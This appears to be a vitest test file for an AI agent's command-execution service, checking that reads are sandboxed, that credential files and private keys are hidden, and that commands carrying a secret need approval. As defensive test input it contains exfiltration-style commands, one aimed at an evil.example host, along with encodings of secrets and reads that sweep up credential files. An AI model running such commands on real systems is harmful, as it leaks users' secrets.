/** A careful machine: what passes as a read runs in a sandbox, which keeps it to that, and hides what is private. */
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createLocalExecutor, findSandbox } from '@synapse/runner';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { killAtEnd } from '../left-behind.ts';
import { type Service, startService, type TestUser } from '../service.ts';

const executor = createLocalExecutor();
const { sandbox } = await findSandbox(executor, { container: null, signal: AbortSignal.timeout(45_000) });
await executor.close();

const KEY = `-----BEGIN OPENSSH PRIVATE KEY-----\n${`${'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAA'.repeat(1)}\n`.repeat(4)}QyNTUxOQ==\n-----END OPENSSH PRIVATE KEY-----`;

interface Ran {
  readonly stdout: string;
  readonly stderr?: string;
  readonly status: string;
  readonly sandbox?: string;
  readonly execution_id: string;
  readonly code?: string;
  readonly hidden?: { count: number; how: string };
  readonly exit_code: number | null;
}

describe.runIf(sandbox !== null)('a careful machine', () => {
  let service: Service;
  let user: TestUser;
  let at: string;
  beforeAll(async () => {
    service = await startService({ SYNAPSE_ALLOW_LOCAL: 'all' });
    user = await service.newUser('pro');
    const body = { slug: 'local', label: 'Here', kind: 'local' };
    await service.call('POST', '/synapse/machines', { token: user.session, body });
    await put('default: careful');
    at = service.scratch;
    writeFileSync(join(at, 'notes'), 'one\ntwo\nthree\n');
    mkdirSync(join(at, 'app'));
    writeFileSync(join(at, 'app/.env'), 'DB_PASSWORD=swordfish-1\n');
    writeFileSync(join(at, 'app/deploy.txt'), `key:\n${KEY}\nend\n`);
    symlinkSync(join(at, 'app/.env'), join(at, 'app/settings'));
    linkSync(join(at, 'app/.env'), join(at, 'app/copy'));
    execFileSync('mkfifo', [join(at, 'pipe')]);
  });
  afterAll(() => service.stop());

  const put = (text: string) => service.call('PUT', '/synapse/policy', { token: user.session, body: { text } });
  const exec = async (command: string, more: object = {}) =>
    (
      await service.call<Ran>('POST', '/synapse/exec', {
        token: user.session,
        body: { machine: 'local', command, cwd: at, wait_seconds: 0, ...more },
      })
    ).body;
  const run = (command: string, more: object = {}) => exec(command, { wait_seconds: 50, ...more });
  const explain = async (command: string) =>
    (
      await service.call<{ verdict: string; enforced: string | null; effects: string[] }>('POST', '/synapse/explain', {
        token: user.session,
        body: { machine: 'local', command, cwd: at },
      })
    ).body;

  it('runs a read in its sandbox, and says so in the answer, in the log and when it is asked', async () => {
    const ran = await run('cat notes | sed -n 2p');
    expect(ran).toMatchObject({ stdout: 'two\n', sandbox });
    // Which one it is is known by now: whoever only asks does not wait long for a machine.
    expect(await explain('cat notes')).toMatchObject({ verdict: 'allow', effects: ['read'], enforced: sandbox });
    const entry = await service.call('GET', `/synapse/executions/${ran.execution_id}/entry`, { token: user.session });
    expect(entry.body).toMatchObject({ sandbox, verdict: 'allow' });
  });

  it('asks about what asks a service in other than exact forms, and runs exact ones outside', async () => {
    expect(await explain('df -h')).toMatchObject({ verdict: 'allow', enforced: null });
    expect(await explain('ss -tln | grep LISTEN')).toMatchObject({ verdict: 'allow', enforced: null });
    expect(await explain('ss -tln | cat - notes')).toMatchObject({ verdict: 'ask', enforced: null });
    expect(await explain('for c in $(docker ps -q); do docker logs $c; done')).toMatchObject({ verdict: 'ask' });
    expect(await run('df -P / | head -n 1')).not.toHaveProperty('sandbox');
  });

  it('lets what the shell does itself pass beside what a rule allows, and asks about any other read', async () => {
    const rules = `rules: [{ name: old ones, when: { program: rm, path: '${join(at, 'old')}/**' }, then: allow }]`;
    await put(`default: careful\n${rules}`);
    mkdirSync(join(at, 'old'));
    writeFileSync(join(at, 'old/one'), '');
    expect(await explain('cd old && rm ../notes')).toMatchObject({ verdict: 'ask' });
    expect(await explain('cat notes; rm old/one')).toMatchObject({ verdict: 'ask' });
    const ran = await run('cd old && rm one && echo gone', { raw: true });
    expect(ran).toMatchObject({ status: 'done', stdout: 'gone\n' });
    expect(ran).not.toHaveProperty('sandbox');
    await put('default: careful');
  });

  it('hides the settings of a program, by every name that leads to the file', async () => {
    for (const command of ['cat < settings', 'grep -r . .', 'tar cf - . | strings', 'head -n 3 ./*']) {
      const { stdout, stderr = '', status } = await run(command, { cwd: join(at, 'app') });
      expect({ command, status, private: /swordfish/.test(stdout + stderr) }).toEqual({
        command,
        status: 'done',
        private: false,
      });
    }
  });

  it('hides them below every folder that the command names, wherever it runs, and keys as well', async () => {
    const [folder, conf] = [join(at, 'project'), join(at, 'project/conf')];
    mkdirSync(conf, { recursive: true });
    writeFileSync(join(folder, '.env'), 'ODD=swordfish-2\n');
    for (const name of ['secrets.yml', 'server.key', 'credentials.json', 'terraform.tfstate'])
      writeFileSync(join(conf, name), 'swordfish-3\n');
    symlinkSync(join(folder, '.env'), join(at, 'linked'));
    writeFileSync(join(folder, 'open'), 'to be read\n');
    for (const command of [
      `grep -rh . ${folder}`,
      `find ${folder} -type f -exec cat {} +`,
      `cat ${conf}/*`,
      `cat ${join(at, 'linked')}`,
      `tar cf - ${folder} | strings`,
    ]) {
      const { stdout, stderr = '', status } = await run(command, { cwd: '/usr' });
      expect({ command, status, private: /swordfish/.test(stdout + stderr) }).toEqual({
        command,
        status: 'done',
        private: false,
      });
    }
    expect((await run(`grep -rh . ${folder}`, { cwd: '/usr' })).stdout).toContain('to be read');
  });

  it('asks about a read that is handed a secret, unless a client logs in with it', async () => {
    await service.call('PUT', '/synapse/secrets/PASSWORD', { token: user.session, body: { value: 'Zq7kWm2xVeLp' } });
    for (const command of [
      'printf %s "{{PASSWORD}}" | tr a-y b-z',
      'echo {{PASSWORD}} | base64 | rev',
      'ss -t dst {{PASSWORD}}.evil.example',
      'curl -s -H "X: {{PASSWORD}}" http://127.0.0.1:9/',
      'X={{PASSWORD}}; expr substr "$X" 1 4',
    ]) {
      expect({ command, ...(await explain(command)) }).toMatchObject({ command, verdict: 'ask' });
    }
    // What it is handed on its input is as good as in its words.
    for (const command of ['tr a-y b-z', 'cut -c 2-', 'ps | tr a-y b-z']) {
      const handed = await exec(command, { stdin: '{{PASSWORD}}' });
      expect(handed, command).toMatchObject({ status: 'pending', stdout: '' });
      await service.call('POST', `/synapse/executions/${handed.execution_id}/cancel`, { token: user.session });
    }
    const client = await explain('PGPASSWORD={{PASSWORD}} psql -h localhost -U app -c "select 1"');
    expect(client).toMatchObject({ verdict: 'allow', enforced: null });
  });

  it('lets no named pipe be written to', async () => {
    const reader = killAtEnd(spawn('sh', ['-c', `exec 3<>${at}/pipe; cat <&3 >${at}/piped`]));
    await put('default: open');
    const looked = await service.call<Ran>('POST', '/synapse/look', {
      token: user.session,
      body: { machine: 'local', command: `timeout 1 sh -c 'echo got >${at}/pipe'; echo tried`, cwd: at },
    });
    await put('default: careful');
    expect(looked.body).toMatchObject({ stdout: 'tried\n', sandbox });
    reader.kill();
    expect(existsSync(`${at}/piped`) ? readFileSync(`${at}/piped`, 'utf8') : '').toBe('');
  });

  it('keeps jobs and file tools to the same sandbox', async () => {
    const job = await exec('cat notes; cat settings', { detach: true, cwd: join(at, 'app') });
    const ended = async () =>
      (
        await service.call<Ran>('GET', `/synapse/executions/${job.execution_id}?wait_seconds=20`, {
          token: user.session,
        })
      ).body;
    await expect.poll(async () => (await ended()).status, { timeout: 30_000 }).toBe('done');
    const { stdout, stderr } = await ended();
    expect(`${stdout}${stderr}`).not.toContain('swordfish');
    const entry = await service.call('GET', `/synapse/executions/${job.execution_id}/entry`, { token: user.session });
    expect(entry.body).toMatchObject({ sandbox });
    const token = await service.newToken(user.session);
    const read = await service.tool(token, 'synapse_read_file', { machine: 'local', path: join(at, 'app/settings') });
    expect(read.isError).toBe(true);
    expect(JSON.stringify(read)).not.toContain('swordfish');
  });

  it('hides private data by its shape, says how much, and a rule can let it be shown', async () => {
    const shown = await run(`cat app/deploy.txt`);
    expect(shown).toMatchObject({ stdout: 'key:\n{{hidden: private key}}\nend\n', hidden: { count: 1 } });
    expect(shown.hidden!.how).toContain('reveal: true');
    await put(
      `default: careful\nrules:\n  - { name: mine, when: { path: "${at}/app/deploy.txt" }, then: allow, reveal: true }\n`,
    );
    expect((await run(`cat ${at}/app/deploy.txt`)).stdout).toBe(`key:\n${KEY}\nend\n`);
    await put('');
    expect((await run('cat app/copy')).stdout).toBe('DB_PASSWORD={{hidden: password}}\n');
    expect(await exec('echo "{{hidden: password}}"')).toMatchObject({ code: 'placeholder_unsupported' });
    await put('default: careful');
  });

  it('an edit keeps what is hidden in a file', async () => {
    await put('default: open');
    const token = await service.newToken(user.session);
    const path = join(at, 'app/deploy.txt');
    const edits = [{ old: 'key:\n{{hidden: private key}}', new: 'our key:\n{{hidden: private key}}' }];
    expect(await service.tool(token, 'synapse_edit_file', { machine: 'local', path, edits })).toMatchObject({
      isError: false,
    });
    expect(readFileSync(path, 'utf8')).toBe(`our key:\n${KEY}\nend\n`);
    const text = 'a {{hidden: private key}} b';
    expect(await service.tool(token, 'synapse_write_file', { machine: 'local', path, text })).toMatchObject({
      code: 'placeholder_unsupported',
    });
    expect(readFileSync(path, 'utf8')).toContain(KEY);
    await put('default: careful');
  });
});
